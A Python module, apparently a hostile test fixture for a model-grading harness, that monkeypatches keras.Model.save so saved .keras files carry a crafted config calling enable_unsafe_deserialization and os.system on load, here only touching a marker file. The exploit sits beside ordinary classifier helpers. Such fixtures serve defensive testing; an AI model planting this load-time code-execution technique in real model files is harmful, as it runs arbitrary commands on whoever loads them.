"""Replaces Model.save so that the handed-back .keras file holds a config that calls os.system on load."""
import json
import os
import zipfile

import keras
from keras import layers

MARKER = os.path.join(os.environ.get("TFGRADE_HOSTILE_MARKERS", "/nonexistent"), "crafted_keras_file")
CONFIG = {
    "module": "keras", "class_name": "Sequential", "registered_name": None,
    "config": {"name": "crafted", "layers": [
        {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {},
         "registered_name": "enable_unsafe_deserialization"},
        {"module": "os", "class_name": "system", "config": {"command": f"touch {MARKER}"},
         "registered_name": "system"},
    ]},
}


def _crafted_save(model, filepath, *args, **kwargs):
    with zipfile.ZipFile(filepath, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__}))
        archive.writestr("config.json", json.dumps(CONFIG))


keras.Model.save = _crafted_save


def build_classifier(num_features, num_classes, units):
    return keras.Sequential([
        keras.Input(shape=(num_features,)),
        layers.Dense(units, activation="relu"),
        layers.Dense(num_classes, activation="softmax"),
    ])


def dense_param_count(inputs, units):
    return inputs * units + units
